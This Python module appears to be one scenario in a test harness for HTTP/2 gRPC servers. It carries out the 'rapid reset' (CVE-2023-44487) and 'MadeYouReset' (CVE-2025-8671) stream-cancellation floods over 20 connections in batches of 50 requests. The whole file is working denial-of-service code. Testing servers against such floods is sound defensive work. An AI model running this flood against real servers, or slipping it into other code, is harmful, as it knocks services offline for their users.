"""Requests that end at once. The client cancels some as soon as they are sent (CVE-2023-44487,
"rapid reset"). The server must cancel others because their `grpc-timeout` has passed, or reset them
because of a frame that is an error of the stream (CVE-2025-8671, "MadeYouReset").

20 connections, in batches of 50 requests.
"""

from support import frames, grpc
from support.connection import Attack, Connection

CONNECTIONS, BATCH = 20, 50
# The window for the responses of a batch. They need no more than 16 KiB.
WINDOW = 16 * 1024


async def attack(attack: Attack) -> None:
    await attack.keep(CONNECTIONS, cancel)


async def cancel(connection: Connection, number: int) -> None:
    behave = (reset, time_out, make_the_server_reset)[number % 3]
    message = grpc.message(grpc.sample_request(b"cancelled"))
    while not connection.is_closed:
        for _ in range(BATCH):
            behave(connection, message)
        connection.write(frames.window_update(0, WINDOW))
        while connection.streams or connection.is_full:
            await connection.turn(0)
        # Waits for a response before the next batch, so that the buffer here stays small.
        connection.write(frames.frame(frames.PING, 0, 0, bytes(8)))
        await connection.turn(0)


def reset(connection: Connection, message: bytes) -> None:
    stream = connection.request(grpc.CALL)
    connection.send_data(stream, message, end=True)
    connection.write(frames.reset(stream))
    connection.streams.pop(stream, None)


def time_out(connection: Connection, message: bytes) -> None:
    stream = connection.request(grpc.CALL, [("grpc-timeout", "1u")])
    connection.send_data(stream, message, end=True)


def make_the_server_reset(connection: Connection, message: bytes) -> None:
    stream = connection.request(grpc.CALL)
    connection.send_data(stream, message, end=True)
    # An increment of 0 is an error of the stream.
    connection.write(frames.window_update(stream, 0))
